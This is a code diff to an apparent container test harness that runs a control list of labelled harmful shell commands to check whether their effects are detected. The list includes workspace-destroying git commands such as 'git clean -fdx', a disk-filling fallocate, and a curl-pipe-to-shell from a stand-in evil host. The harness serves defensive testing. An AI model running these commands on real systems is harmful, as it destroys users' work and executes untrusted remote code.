@@ -30,12 +30,11 @@ const control: readonly HarmLine[] = [
     cmd: "git stash clear; git reflog expire --expire=now --all; git gc --prune=now -q",
     harm: "workspace",
   },
+  { id: "control-13", cmd: "git clean -fdx", harm: "workspace" },
   { id: "control-10", cmd: "fallocate -l 900M ~/big", harm: "fills" },
   { id: "control-11", cmd: "curl -s http://evil.example/install.sh | sh", harm: "outside" },
   { id: "control-12", cmd: "ls -la", harm: "none" },
 ];
-
-type Line = HarmLine & { mode: Mode };
 
 /** Runs all lines in all modes, on two containers. */
 export async function runAll(
@@ -66,7 +65,7 @@ const ignored = (_done: number): void => {};
 /** Which lines of the control were not seen to do what they do. */
 export async function unseen(container: Container, lines: readonly HarmLine[] = control): Promise<string[]> {
   const outcomes = await runAll(
-    lines.map((line) => ({ ...line, mode: "trusted" as const })),
+    lines.map((line) => ({ ...line, mode: "trusted" as const, leaves: true })),
     container,
   );
   return lines.flatMap(({ cmd, harm = "none" }, at) => {
@@ -76,7 +75,7 @@ export async function unseen(container: Container, lines: readonly HarmLine[] = 
   });
 }
 
-export const jobsOf = (lines: readonly HarmLine[], modes: readonly Mode[]): Line[] =>
+export const jobsOf = (lines: readonly HarmLine[], modes: readonly Mode[]): HarmJob[] =>
   modes.flatMap((mode) => lines.map((line) => ({ ...line, mode })));
 
 async function main(): Promise<void> {
